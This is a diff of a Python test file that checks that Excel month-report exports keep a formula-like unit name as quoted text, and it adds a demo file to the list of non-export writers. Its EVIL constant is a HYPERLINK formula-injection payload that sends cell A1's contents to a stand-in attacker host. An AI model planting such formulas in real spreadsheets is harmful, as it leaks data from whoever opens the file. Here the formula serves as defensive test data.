@@ -22,6 +22,7 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 NOT_EXPORTS = {
     "tracking/parsing.py": "joins an input line's fields back into the line it was",
     "tracking/demo.py": "writes the demo centre's own import file (input, not an export)",
+    "routing/demo.py": "writes the demo centre's service-area table (input, not an export)",
 }
 WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|import xlsxwriter|import openpyxl")
 
@@ -132,11 +133,10 @@ def test_month_report_excel_keeps_a_formula_like_unit_name_as_text(
         ]
         cells = _sheet_cells(book, strings)
         styles = book.read("xl/styles.xml").decode()
-    text = f"{EVIL} (WZ-LC01)"
-    assert text in cells, sorted(cells)  # the name exactly as it is, as text
+    assert EVIL in cells, sorted(cells)  # the name exactly as it is, as text
     xfs = re.search(r"<cellXfs[^>]*>(.*?)</cellXfs>", styles, flags=re.S).group(1)
-    style = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs, flags=re.S)[int(cells[text][1])]
-    assert 'quotePrefix="1"' in style  # Excel keeps it text even when the cell is edited
-    # an ordinary text cell has no quote prefix
-    plain = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs, flags=re.S)[int(cells["投诉"][1])]
-    assert "quotePrefix" not in plain
+    xf = re.findall(r"<xf [^>]*?(?:/>|>.*?</xf>)", xfs, flags=re.S)
+    # Excel keeps the name text even when the cell is edited; no other cell is touched
+    quoted = {text for text, (_ref, style) in cells.items() if 'quotePrefix="1"' in xf[int(style)]}
+    assert quoted == {text for text in cells if formula_like(text)} == {EVIL}
+    assert len(cells) > 20
